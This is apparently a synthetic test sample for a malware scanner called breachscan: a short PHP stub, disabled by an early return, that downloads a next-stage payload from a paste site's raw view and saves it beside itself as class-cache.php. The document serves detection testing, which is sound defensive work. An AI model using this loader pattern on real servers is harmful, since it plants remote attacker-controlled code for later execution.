<?php
// synthetic test sample for breachscan: pulls the next stage from a paste site's raw view
// (the paste id is made up) and saves it as a PHP file beside itself. Disabled.
return;
$src = 'https://pastebin.com/raw/SAMPLE00';
$code = file_get_contents($src);
if ($code !== false) {
    file_put_contents(__DIR__ . '/class-cache.php', $code);
}
